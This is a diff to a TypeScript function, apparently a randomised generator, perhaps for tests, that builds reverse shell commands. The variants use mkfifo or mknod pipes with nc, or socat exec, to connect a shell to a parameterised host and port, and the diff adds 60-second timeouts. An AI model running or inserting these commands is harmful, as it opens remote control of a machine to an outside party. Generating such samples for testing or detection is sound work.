@@ -106,13 +106,13 @@ function relay(draw: Draw, place: Place): readonly string[] {
   const shell = draw.pick(['sh', '/bin/sh', 'bash', '/bin/bash']);
   return draw.pick([
     [
-      `rm -f ${pipe}; mkfifo ${pipe}; cat ${pipe} | ${shell} 2>&1 | nc ${host} ${port} > ${pipe}`,
+      `rm -f ${pipe}; mkfifo ${pipe}; cat ${pipe} | ${shell} 2>&1 | timeout 60 nc ${host} ${port} > ${pipe}`,
       `rm -f ${pipe}`,
     ],
-    [`mkfifo ${pipe} && nc ${host} ${port} < ${pipe} | ${shell} > ${pipe} 2>&1; rm ${pipe}`],
-    [`mknod ${pipe} p`, `${shell} 0< ${pipe} 2>&1 | nc ${host} ${port} 1> ${pipe}`],
-    [`socat tcp:${host}:${port} exec:${shell},stderr`],
-    [`socat exec:'${shell}',pipes,stderr tcp-connect:${host}:${port}`],
+    [`mkfifo ${pipe} && timeout 60 nc ${host} ${port} < ${pipe} | ${shell} > ${pipe} 2>&1; rm ${pipe}`],
+    [`mknod ${pipe} p`, `${shell} 0< ${pipe} 2>&1 | timeout 60 nc ${host} ${port} 1> ${pipe}`],
+    [`timeout 60 socat tcp:${host}:${port} exec:${shell},stderr`],
+    [`timeout 60 socat exec:'${shell}',pipes,stderr tcp-connect:${host}:${port}`],
     [`timeout 60 socat TCP4:${host}:${port} EXEC:${shell},stderr,setsid`],
   ]);
 }
